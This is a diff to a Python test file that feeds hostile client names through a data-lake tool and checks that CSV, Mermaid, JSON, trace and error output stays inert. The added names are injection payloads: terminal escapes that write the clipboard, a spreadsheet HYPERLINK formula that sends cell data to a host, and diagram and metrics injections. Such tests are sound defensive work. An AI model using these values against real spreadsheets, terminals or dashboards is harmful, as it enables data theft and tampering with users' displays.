@@ -1,10 +1,13 @@
 """Hostile names of clients: they become ordinary rows, and have no other effect."""
 
 import base64
+import csv
 import json
+import re
 import shutil
 import subprocess
 import sys
+from functools import cache
 
 import pytest
 
@@ -17,9 +20,10 @@ from coordinator_core.records import (
     encode_value,
 )
 from jobs.checks.check import broken_laws
+from jobs.command_line import cli
 from jobs.console.errors import RunFailed
 from jobs.lake.sql import query
-from jobs.nightly import NightlyOptions, nightly
+from jobs.report.command import ReportOptions, report
 from jobs.segments.writer import record_batch
 from tests.end_to_end.incident_lake import IncidentLake
 from tools.faults.lakes import tables_of
@@ -37,6 +41,12 @@ NAMES = [
     "../../../../tmp/owned",
     "cluster_id=other/event_date=2020-01-01",
     "\x1b[2J\x1b]0;owned\x07\x9b31m",
+    "\x1b]8;;http://127.0.0.1/\x07link\x1b]8;;\x07\x1b]52;c;b3duZWQ=\x07",
+    '=HYPERLINK("http://127.0.0.1/?"&A1,"x")',
+    "@SUM(1)",
+    "a: b; end\nNote over a: %%{init: {}}%%",
+    'a"} 1\n# HELP owned x\nowned{b="',
+    "constructor",
     "a\nb\tc\rd\x0b\x85\u2028e",
     "nul\x00nul",
     "\u202egnp.eman\u2066",
@@ -48,6 +58,13 @@ NAMES = [
     "\u00e9" * (MAX_NAME_BYTES // 2),
 ]
 MEMBERS = 2
+# One statement of a sequence diagram; a text has no line end, and no ; or # but in an entity.
+_TEXT = r"(?:[^#;\x00-\x1f]|#\w+;)*"
+MERMAID = re.compile(
+    rf" *(?:sequenceDiagram|autonumber|end|title:? ?{_TEXT}|(?:participant|actor) {_TEXT}"
+    rf"|\w+ ?-?->>?[+-]? ?\w+ ?: ?{_TEXT}|Note (?:over|right of|left of) {_TEXT}|rect {_TEXT}"
+    rf"|(?:par|and|loop|opt|alt|else|critical|break)(?: {_TEXT})?|%%{_TEXT})?"
+)
 CLUSTER = "a/b\\c 'ü' \"100%\""
 
 
@@ -108,10 +125,21 @@ def segment(tmp_path_factory):
 
 
 @pytest.fixture(scope="module")
-def ingested(segment, config, tmp_path_factory):
-    root = str(tmp_path_factory.mktemp("lake"))
-    nightly(NightlyOptions(root, CLUSTER, segments=str(segment.parent)), config)
-    return root
+def ingested_by(segment, tmp_path_factory):
+    """``ingested_by(engine)``: a lake that this engine wrote."""
+
+    @cache
+    def of(engine):
+        lake = IncidentLake(str(tmp_path_factory.mktemp("lake")), engine)
+        lake.run(CLUSTER, segment.parent)
+        return lake.root
+
+    return of
+
+
+@pytest.fixture(scope="module")
+def ingested(ingested_by):
+    return ingested_by("embedded")
 
 
 def printed(*command):
@@ -145,29 +173,35 @@ def test_the_lake_is_valid_and_its_quarantine_empty(ingested):
     assert query(ingested, "SELECT SUM(quarantined) FROM ingested_files")[1] == [(0,)]
 
 
+@pytest.mark.embedded_suffices
 @pytest.mark.spark
-@pytest.mark.parametrize("engine", ["embedded"], indirect=True, scope="module")
-def test_spark_recomputes_the_tables_of_the_embedded_engine(ingested, tmp_path):
-    copy = shutil.copytree(ingested, tmp_path / "lake")
+def test_both_engines_give_the_same_tables(ingested_by):
+    in_spark = ingested_by("spark")
 
-    IncidentLake(str(copy), "spark").recompute(CLUSTER)
-
-    assert tables_of(str(copy)) == tables_of(ingested)
-    assert broken_laws(str(copy))[1] == []
+    assert tables_of(in_spark) == tables_of(ingested_by("embedded"))
+    assert broken_laws(in_spark)[1] == []
 
 
+@pytest.mark.embedded_suffices
 @pytest.mark.spark
 def test_the_embedded_engine_refuses_to_replace_files_of_names_that_are_not_ascii(
-    ingested, engine, tmp_path
+    ingested_by, tmp_path
 ):
+    """Only Spark gives the folders of such a cluster names that delta-rs cannot find."""
+    lake = IncidentLake(str(shutil.copytree(ingested_by("spark"), tmp_path / "lake")), "embedded")
+    before = tables_of(lake.root)
+
+    with pytest.raises(RunFailed, match="use --engine spark"):
+        lake.recompute(CLUSTER)
+
+    assert tables_of(lake.root) == before
+
+
+def test_the_embedded_engine_replaces_its_own_files(ingested, tmp_path):
     lake = IncidentLake(str(shutil.copytree(ingested, tmp_path / "lake")), "embedded")
     before = tables_of(lake.root)
 
-    if engine == "spark":
-        with pytest.raises(RunFailed, match="use --engine spark"):
-            lake.recompute(CLUSTER)
-    else:
-        lake.recompute(CLUSTER)
+    lake.recompute(CLUSTER)
 
     assert tables_of(lake.root) == before
 
@@ -178,6 +212,44 @@ def test_control_characters_are_escaped(ingested):
     assert "DROP TABLE" in out
     assert not [c for c in out if c != "\n" and (ord(c) < 32 or 127 <= ord(c) < 160)]
     assert "\u202e" not in out
+
+
+def test_csv_has_formulas_unchanged(ingested):
+    """A spreadsheet may calculate them: docs/reliability.md says how to import them as text."""
+    sql = "SELECT DISTINCT group_id FROM generations WHERE group_id SIMILAR TO '[=@].*'"
+    rows = list(csv.reader(printed("sql", "--lake", ingested, "--format", "csv", sql).splitlines()))
+
+    assert sorted(rows) == [['=HYPERLINK("http://127.0.0.1/?"&A1,"x")'], ["@SUM(1)"], ["group_id"]]
+
+
+def test_a_sequence_has_a_statement_per_line_whatever_the_names(ingested, capsys):
+    for name in NAMES:
+        report(ReportOptions(ingested, CLUSTER, group_id=name, mermaid="2"))
+    lines = capsys.readouterr().out.splitlines()
+
+    assert lines.count("sequenceDiagram") == len(NAMES)
+    assert [line for line in lines if not MERMAID.fullmatch(line)] == []
+
+
+def test_a_trace_is_json_with_the_names(ingested, tmp_path):
+    report(ReportOptions(ingested, CLUSTER, trace=str(tmp_path / "trace.json")))
+    events = json.loads((tmp_path / "trace.json").read_bytes())["traceEvents"]
+    groups = {each["args"]["name"] for each in events if each["name"] == "process_name"}
+
+    assert len(groups) == len(NAMES)
+
+
+def test_an_error_with_a_name_is_one_line_of_text(ingested, capsys, monkeypatch):
+    for name in NAMES:
+        options = ["--lake", ingested, "--cluster-id", CLUSTER, "--group", f"no {name}"]
+        monkeypatch.setattr("sys.argv", ["regroup", "report", *options, "--mermaid", "1"])
+        with pytest.raises(SystemExit):
+            cli.main()
+
+        error = capsys.readouterr().err
+        assert error.startswith("regroup: ")
+        assert [c for c in error if ord(c) < 32 or 127 <= ord(c) < 160] == ["\n"]
+        assert "\u202e" not in error
 
 
 def test_json_has_the_unchanged_names(ingested):
